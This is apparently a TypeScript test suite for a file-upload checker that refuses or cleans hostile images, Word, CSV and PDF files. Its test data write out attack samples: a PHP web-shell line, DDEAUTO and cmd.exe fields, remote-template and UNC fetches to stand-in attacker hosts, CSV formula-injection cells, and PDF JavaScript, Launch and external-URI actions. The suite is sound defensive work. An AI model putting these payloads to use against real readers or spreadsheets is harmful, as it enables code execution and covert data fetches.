import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import sharp from 'sharp';
import { checkFileContent, closeFileChecks, FILE_CONTENT_MESSAGES } from './fileContent';
import { csv, doc, docField, docx, image, pdf, zip } from '@/test/samples';

const text = (value: string) => new TextEncoder().encode(value);
const join = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));
const WORD_TYPES = docx.contentTypes;

afterAll(closeFileChecks);

describe('images are decoded whole and encoded again', () => {
  test.each(['jpeg', 'png', 'gif'] as const)('a real %s passes, re-encoded in its own format', async (format) => {
    const result = await checkFileContent(format, await image(format));
    expect(result.ok).toBe(true);
    if (result.ok) expect((await sharp(result.bytes).metadata()).format).toBe(format);
  });

  test('a header followed by something else is refused', async () => {
    const png = await image('png');
    const jpeg = await image('jpeg');
    expect(await checkFileContent('png', join(png.slice(0, 16), text('<?php system($_GET["c"]); ?>')))).toEqual({ ok: false, message: FILE_CONTENT_MESSAGES.image });
    expect(await checkFileContent('jpeg', join(jpeg.slice(0, 4), text('<html><script>alert(1)</script></html>')))).toEqual({ ok: false, message: FILE_CONTENT_MESSAGES.image });
  });

  test('what trails a real image, and its metadata (location), are not passed on', async () => {
    const tagged = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#12355b' } })
      .jpeg()
      .withExif({ IFD0: { Copyright: 'GPS 19.07N 72.87E' } })
      .toBuffer();
    const payload = text('<html><script>alert(1)</script></html>');
    const result = await checkFileContent('jpeg', join(new Uint8Array(tagged), payload));
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(Buffer.from(result.bytes).includes(Buffer.from('<script>'))).toBe(false);
    expect((await sharp(result.bytes).metadata()).exif).toBeUndefined();
  });
});

describe('Word 2007+', () => {
  test('a real document passes', async () => {
    expect(await checkFileContent('docx', docx())).toMatchObject({ ok: true });
  });

  test.each<[string, Record<string, string>]>([
    ['only the right strings', { '[Content_Types].xml': 'x', 'word/evil.exe': 'MZ' }],
    ['a program inside', { '[Content_Types].xml': WORD_TYPES, 'word/document.xml': '<w:document/>', 'word/evil.exe': 'MZ' }],
    ['macros', { '[Content_Types].xml': WORD_TYPES, 'word/document.xml': '<w:document/>', 'word/vbaProject.bin': 'VBA' }],
    ['a macro-enabled document', { '[Content_Types].xml': WORD_TYPES.replace('document.main+xml', 'document.macroEnabled.main+xml'), 'word/document.xml': '<w:document/>' }],
    ['no main part', { '[Content_Types].xml': WORD_TYPES, 'word/styles.xml': '<w:styles/>' }],
  ])('%s is refused', async (_case, files) => {
    expect(await checkFileContent('docx', zip(files))).toEqual({ ok: false, message: FILE_CONTENT_MESSAGES.word });
  });

  /** The sample document with relationship parts (and other entries) added. */
  const docxWith = (files: Record<string, string>) =>
    zip({ '[Content_Types].xml': WORD_TYPES, 'word/document.xml': '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>', ...files });
  const relationshipsPart = (...relationships: string[]) =>
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships.join('')}</Relationships>`;
  const TYPES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

  test('a document with a web link (a hyperlink outside the file) and its own styles passes', async () => {
    const rels = relationshipsPart(
      `<Relationship Id="rId1" Type="${TYPES}/hyperlink" Target="https://example.org/portfolio" TargetMode="External"/>`,
      `<Relationship Id="rId2" Type="${TYPES}/styles" Target="styles.xml"/>`,
    );
    expect(await checkFileContent('docx', docxWith({ 'word/_rels/document.xml.rels': rels }))).toMatchObject({ ok: true });
  });

  test.each<[string, Record<string, string>]>([
    ['an outside template (remote template injection)', { 'word/_rels/settings.xml.rels': relationshipsPart(`<Relationship Id="rId1" Type="${TYPES}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>`) }],
    ['an outside template, quoted and escaped otherwise', { 'word/_rels/settings.xml.rels': relationshipsPart(`<Relationship TargetMode='&#69;xternal' Target='\\\\evil\\share\\t.dotm' Type='${TYPES}/attached&#x54;emplate' Id='rId1'/>`) }],
    ['a picture fetched from outside', { 'word/_rels/document.xml.rels': relationshipsPart(`<Relationship Id="rId1" Type="${TYPES}/image" Target="http://evil.example/pixel.png" TargetMode="External"/>`) }],
    ['a linked OLE object', { 'word/_rels/document.xml.rels': relationshipsPart(`<Relationship Id="rId1" Type="${TYPES}/oleObject" Target="file:///C:/evil.xls" TargetMode="External"/>`) }],
    ['a frame from outside (web settings)', { 'word/_rels/webSettings.xml.rels': relationshipsPart(`<pr:Relationship xmlns:pr="x" Id="rId1" Type="${TYPES}/frame" Target="http://evil.example/" TargetMode="External"/>`) }],
    ['an embedded object', { 'word/embeddings/oleObject1.bin': 'OLE' }],
    ['an embedded package', { 'word/embeddings/Package.zip': 'PK' }],
    ['an ActiveX control', { 'word/activeX/activeX1.xml': '<ax:ocx/>' }],
    ['a relationship part in UTF-16', { 'word/_rels/settings.xml.rels': '\u0000<\u0000R\u0000' }],
  ])('%s is refused', async (_case, files) => {
    expect(await checkFileContent('docx', docxWith(files))).toEqual({ ok: false, message: FILE_CONTENT_MESSAGES.word });
  });

  test('a file that only starts like a ZIP is refused', async () => {
    expect(await checkFileContent('docx', join(text('PK\u0003\u0004'), text('[Content_Types].xml word/')))).toEqual({ ok: false, message: FILE_CONTENT_MESSAGES.word });
  });
});

describe('Word 97-2003', () => {
  test('a real document passes; one with macros, or a bare header, is refused', async () => {
    expect(await checkFileContent('doc', doc())).toMatchObject({ ok: true });
    expect(await checkFileContent('doc', doc({ macros: true }))).toEqual({ ok: false, message: FILE_CONTENT_MESSAGES.word });
    expect(await checkFileContent('doc', doc().slice(0, 512))).toEqual({ ok: false, message: FILE_CONTENT_MESSAGES.word });
  });

  test.each([
    ['an embedded object (ObjectPool)', '/ObjectPool/_1234/\u0003ObjInfo'],
    ['a packaged file (Ole10Native)', '/ObjectPool/_1234/\u0001Ole10Native'],
    ['a packaged file outside ObjectPool', '/Data/\u0001Ole10Native'],
  ])('%s is refused', async (_case, stream) => {
    expect(await checkFileContent('doc', doc({ extraStream: stream }))).toEqual({ ok: false, message: FILE_CONTENT_MESSAGES.word });
  });

  test.each([
    ['DDEAUTO', docField('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"', 'Loading')],
    ['a UNC INCLUDEPICTURE', docField('INCLUDEPICTURE "\\\\attacker.example\\share\\p.png" \\d')],
    ['DDE nested inside an IF field', docField(`IF 1 = 1 "${docField('DDE cmd "/c calc"')}"`)],
    ['a field left open', '\u0013 LINK Excel.Sheet "c:\\x.xls"'],
  ])('a field that runs or fetches in the text (%s) is refused, one byte a character or UTF-16', async (_case, field) => {
    for (const compressed of [true, false]) {
      expect(await checkFileContent('doc', doc({ text: `Curriculum Vitae\r${field}\r`, compressed }))).toEqual({ ok: false, message: FILE_CONTENT_MESSAGES.word });
    }
  });

  test('fields that only show (a page number, a date, a hyperlink) pass', async () => {
    const text = `Asha Rao\r${docField('PAGE', '1')} ${docField('DATE \\@ "d MMMM yyyy"', '27 November 2026')} ${docField('HYPERLINK "https://example.org/portfolio"', 'portfolio')}\r`;
    expect(await checkFileContent('doc', doc({ text }))).toMatchObject({ ok: true });
    expect(await checkFileContent('doc', doc({ text, compressed: false }))).toMatchObject({ ok: true });
  });

  test('fields nested past the bound are refused as too complex; a piece table pointing outside the stream as not Word', async () => {
    const deep = `${'\u0013IF 1 = 1 "'.repeat(300)}${'"\u0015'.repeat(300)}`;
    expect(await checkFileContent('doc', doc({ text: deep }))).toEqual({ ok: false, message: FILE_CONTENT_MESSAGES.tooComplex });
    const broken = doc({ text: 'Curriculum Vitae' });
    expect(await checkFileContent('doc', broken.slice(0, broken.length - 600))).toEqual({ ok: false, message: FILE_CONTENT_MESSAGES.word });
  });
});

describe('CSV', () => {
  test('a real sheet passes, negative-looking text inside a cell too', async () => {
    expect(await checkFileContent('csv', csv())).toMatchObject({ ok: true });
    expect(await checkFileContent('csv', text('Name,Range\nAsha,5-10\n'))).toMatchObject({ ok: true });
  });

  test.each([
    'Name,Link\nAsha,=HYPERLINK("http://evil.example","CV")\n',
    "Name,Cmd\nAsha,=cmd|' /C calc'!A0\n",
    'Name,Score\nAsha,+1+1\n',
    'Name,Score\nAsha,-2+3\n',
    'Name,Score\nAsha,@SUM(A1:A2)\n',
    'Name,Score\nAsha,"\t=1+1"\n',
    'Name,Score\nAsha,"\r=1+1"\n',
    '"=1+1",Name\n',
  ])('%j: a cell a spreadsheet would run is refused', async (sheet) => {
    expect(await checkFileContent('csv', text(sheet))).toEqual({ ok: false, message: FILE_CONTENT_MESSAGES.csvFormula });
  });

  test.each([
    ['a sep= line naming ;', 'sep=;\nName;Score\nAsha;=1+1\n'],
    ['a sep= line naming a tab', 'sep=\t\nName\tScore\nAsha\t@SUM(A1)\n'],
    ['a sep= line naming |', '\ufeffsep=|\r\nName|Score\r\nAsha|+1+1\r\n'],
    ['a sep= line naming an unusual character', 'sep=x\nNamexScore\nAshax=1+1\n'],
    ['no sep= line, split on ; by a spreadsheet in such a locale', 'Name;Score\nAsha;=1+1\n'],
    ['no sep= line, a quoted formula after a ;', 'Name;Score\nAsha;"=1+1"\n'],
  ])('%s: a cell a spreadsheet would run is refused', async (_case, sheet) => {
    expect(await checkFileContent('csv', text(sheet))).toEqual({ ok: false, message: FILE_CONTENT_MESSAGES.csvFormula });
  });

  test('a sheet with a sep= line and no formula passes', async () => {
    expect(await checkFileContent('csv', text('sep=;\nName;Subject;Years\nAsha Rao;Mathematics;6\n'))).toMatchObject({ ok: true });
  });

  test('text that is not CSV is refused', async () => {
    expect(await checkFileContent('csv', text('Name,Note\nAsha,"never closed\n'))).toEqual({ ok: false, message: FILE_CONTENT_MESSAGES.csv });
  });
});

describe('PDF', () => {
  /** The sample CV with something added, saved as pdf-lib saves: objects packed in compressed object streams. */
  async function pdfWith(change: (document: PDFDocument) => Promise<void> | void): Promise<Uint8Array> {
    const document = await PDFDocument.load(pdf());
    await change(document);
    return document.save();
  }
  const refused = { ok: false, message: FILE_CONTENT_MESSAGES.pdf };

  test('a real PDF passes, as it came', async () => {
    expect(await checkFileContent('pdf', pdf())).toEqual({ ok: true, bytes: pdf() });
    expect(await checkFileContent('pdf', await pdfWith(() => undefined))).toMatchObject({ ok: true });
  });

  test('a PDF header followed by a web page is refused', async () => {
    expect(await checkFileContent('pdf', text('%PDF-1.4\n<html><script>alert(1)</script></html>'))).toEqual(refused);
  });

  test.each<[string, (document: PDFDocument) => Promise<void> | void]>([
    ['a script run on opening', (document) => document.catalog.set(PDFName.of('OpenAction'), document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }))],
    ['a program launched on opening', (document) => document.catalog.set(PDFName.of('OpenAction'), document.context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') }))],
    ['an attached file', async (document) => void (await document.attach(new Uint8Array([0x4d, 0x5a]), 'evil.exe', { mimeType: 'application/octet-stream' }))],
    [
      'a link whose action is a script',
      (document) => {
        const link = document.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 100], A: { S: 'JavaScript', JS: PDFString.of('app.alert(1)') } });
        document.getPage(0).node.set(PDFName.of('Annots'), document.context.obj([document.context.register(link)]));
      },
    ],
    ['XFA form with a script', (document) => {
      const xfa = document.context.stream('<xdp:xdp><template><script contentType="application/x-javascript">app.alert(1)</script></template></xdp:xdp>');
      document.catalog.set(PDFName.of('AcroForm'), document.context.obj({ Fields: [], XFA: document.context.register(xfa) }));
    }],
    ['a web address opened on opening', (document) => document.catalog.set(PDFName.of('OpenAction'), document.context.obj({ S: 'URI', URI: PDFString.of('http://evil.example/') }))],
    ['a web address opened with the page (/AA)', (document) => document.getPage(0).node.set(PDFName.of('AA'), document.context.obj({ O: { S: 'URI', URI: PDFString.of('http://evil.example/') } }))],
    ['another file opened with the page (GoToR in /AA)', (document) => document.getPage(0).node.set(PDFName.of('AA'), document.context.obj({ O: { S: 'GoToR', F: PDFString.of('\\\\evil\\share\\x.pdf'), D: [0, 'Fit'] } }))],
    ['a link to another file (GoToR)', (document) => addLink(document, { S: 'GoToR', F: PDFString.of('\\\\evil\\share\\x.pdf'), D: [0, 'Fit'] })],
    ['a link into an embedded file (GoToE)', (document) => addLink(document, { S: 'GoToE', T: { R: 'C', N: PDFString.of('x') } })],
    ['a link whose next action is a script', (document) => addLink(document, { S: 'URI', URI: PDFString.of('https://example.org/'), Next: { S: 'JavaScript', JS: PDFString.of('app.alert(1)') } })],
    ['a web address outside any link (a form field action)', (document) => document.catalog.set(PDFName.of('Names'), document.context.obj({ Extra: { S: 'URI', URI: PDFString.of('http://evil.example/') } }))],
  ])('%s is refused', async (_case, change) => {
    expect(await checkFileContent('pdf', await pdfWith(change))).toEqual(refused);
  });

  function addLink(document: PDFDocument, action: Record<string, unknown>) {
    const link = document.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 100], A: action as never });
    document.getPage(0).node.set(PDFName.of('Annots'), document.context.obj([document.context.register(link)]));
  }

  test('a CV with a web link a reader clicks passes', async () => {
    expect(await checkFileContent('pdf', await pdfWith((document) => addLink(document, { S: 'URI', URI: PDFString.of('https://example.org/portfolio') })))).toMatchObject({ ok: true });
  });

  /** The sample CV saved without object streams, with its text then changed: a spelling pdf-lib would not write. */
  async function pdfSpelled(change: (document: PDFDocument) => void, from: string, to: string): Promise<Uint8Array> {
    const document = await PDFDocument.load(pdf());
    change(document);
    const saved = Buffer.from(await document.save({ useObjectStreams: false })).toString('latin1');
    expect(saved).toContain(from);
    return new Uint8Array(Buffer.from(saved.replace(from, to), 'latin1'));
  }

  test.each([
    ['/L#61unch', '/S /Launch', '/S /L#61unch'],
    ['/launch', '/S /Launch', '/S /launch'],
    ['/Java#53cript', '/S /JavaScript', '/S /Java#53cript'],
  ])('a launch or script action spelled %s is refused', async (_case, from, to) => {
    const action = from.includes('Launch') ? { S: 'Launch', F: PDFString.of('cmd.exe') } : { S: 'JavaScript', JS: PDFString.of('app.alert(1)') };
    const bytes = await pdfSpelled((document) => addLink(document, action), from, to);
    expect(await checkFileContent('pdf', bytes)).toEqual(refused);
  });

  test('an encrypted PDF is refused with its own message, even with an empty password hiding a script in an object stream', async () => {
    const document = await PDFDocument.load(pdf());
    document.catalog.set(PDFName.of('OpenAction'), document.context.register(document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })));
    document.encrypt({ userPassword: '', ownerPassword: 'owner' });
    const encrypted = await document.save({ useObjectStreams: true });
    expect(await checkFileContent('pdf', encrypted)).toEqual({ ok: false, message: FILE_CONTENT_MESSAGES.pdfEncrypted });
  });

  test('an object the checker cannot parse is refused, not skipped', async () => {
    const broken = await pdfSpelled((document) => addLink(document, { S: 'GoTo', D: [0, 'Fit'] }), '/S /GoTo', '/S /GoTo >> ]]] <<');
    expect(await checkFileContent('pdf', broken)).toEqual(refused);
  });

  test('an object stream that cannot be unpacked is refused, not skipped', async () => {
    const document = await PDFDocument.load(pdf());
    const packed = Buffer.from(await document.save({ useObjectStreams: true })).toString('latin1');
    expect(packed).toContain('/Type /ObjStm');
    const unreadable = packed.replace('/Type /ObjStm', '/Type /ObjStm /DecodeParms << /Predictor 99 >>').replace('/Filter /FlateDecode', '/Filter /LZWDecode');
    expect(await checkFileContent('pdf', new Uint8Array(Buffer.from(unreadable, 'latin1')))).toEqual(refused);
  });
});
